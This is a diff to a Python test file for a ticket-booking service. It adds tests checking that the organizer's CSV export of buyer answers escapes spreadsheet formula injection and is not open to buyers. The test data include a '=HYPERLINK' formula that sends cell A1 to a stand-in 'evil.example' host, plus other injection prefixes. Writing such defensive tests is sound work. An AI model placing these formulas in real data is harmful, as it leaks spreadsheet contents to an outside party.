@@ -1,5 +1,7 @@
 """What organizers ask those who book: answered before paying, seen by both, erased when somebody wants."""
 
+import csv
+import io
 from typing import Any
 
 import httpx
@@ -9,6 +11,7 @@ from litestar import Litestar
 from booking.test_fees import hold, on_sale
 from boxoffice.accounts.identity import Role
 from boxoffice.booking.personal_data import erase_user
+from boxoffice.inventory.answers import export
 from boxoffice.inventory.answers.schemas import CHOICES_MAX, QUESTIONS_MAX
 from boxoffice.kit.postgres import Database
 from boxoffice.kit.text import LINE_CHARACTERS_MAX
@@ -123,6 +126,51 @@ async def test_a_hold_with_answers_is_made_once_whatever_is_asked_by_then(organi
 
     assert (first.status_code, again.status_code, other.status_code) == (201, 201, 422)
     assert (again.json(), again.headers["idempotent-replayed"]) == (first.json(), "true")
+
+
+async def test_the_organizer_gets_a_table_in_which_nothing_is_a_formula(
+    organizer: Person, buyer: Person, monkeypatch: pytest.MonkeyPatch
+):
+    event = await asking(organizer, BADGE, MEAL)
+    formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    names = [formula, 'Grace, "Amazing"\u00e4', "+1", "-1", "@SUM(A1)", "'quoted", "O'Hara=1"]
+    for place, name in enumerate(names[:3]):
+        seat = [{"question": "badge", "value": name, "place": 0}, {"question": "meal", "value": "Vegan"}]
+        await hold(buyer, event, seat_ids=[place], answers=seat)
+    floor = [{"question": "badge", "value": name, "place": at} for at, name in enumerate(names[3:])]
+    await hold(buyer, event, areas=[{"area_id": 0, "quantity": 4}], answers=floor)
+    path = f"/events/{event['id']}/answers.csv"
+
+    whole = await organizer.get(path)
+    monkeypatch.setattr(export, "EXPORTED_AT_ONCE", 2)
+    pieces = await organizer.get(path)
+
+    assert (whole.status_code, whole.headers["content-type"]) == (200, "text/csv; charset=utf-8")
+    assert whole.headers["content-disposition"] == f'attachment; filename="answers-{event["id"]}.csv"'
+    assert pieces.content == whole.content
+    header, *rows = csv.reader(io.StringIO(whole.content.decode("utf-8-sig")))
+    assert header == ["booking_id", "answered_at", "zone", "row", "number", "badge", "meal"]
+    assert [row[2:] for row in rows[:2]] == [
+        ["Left", "A", "1", f"'{formula}", "Vegan"],
+        ["Left", "A", "2", names[1], "Vegan"],
+    ]
+    assert [row[2:] for row in rows[3:]] == [
+        ["Floor", "", "", written, ""] for written in ("'-1", "'@SUM(A1)", "'quoted", "O'Hara=1")
+    ]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    assert [(await each.get(path)).status_code for each in (buyer,)] == [403]
+
+
+async def test_a_table_of_what_is_asked_once_has_a_row_for_each_booking(organizer: Person, buyer: Person):
+    event = await asking(organizer, TERMS)
+    path, agreed = f"/events/{event['id']}/answers.csv", [{"question": "terms", "value": True}]
+    empty = await organizer.get(path)
+    await hold(buyer, event, seat_ids=[0, 1], answers=agreed)
+
+    [row] = csv.DictReader(io.StringIO((await organizer.get(path)).content.decode("utf-8-sig")))
+
+    assert empty.content.decode("utf-8-sig") == "booking_id,answered_at,zone,row,number,terms\r\n"
+    assert (row["zone"], row["terms"]) == ("", "yes")
 
 
 async def test_an_exchange_and_other_questions_are_answered_anew(organizer: Person, buyer: Person):
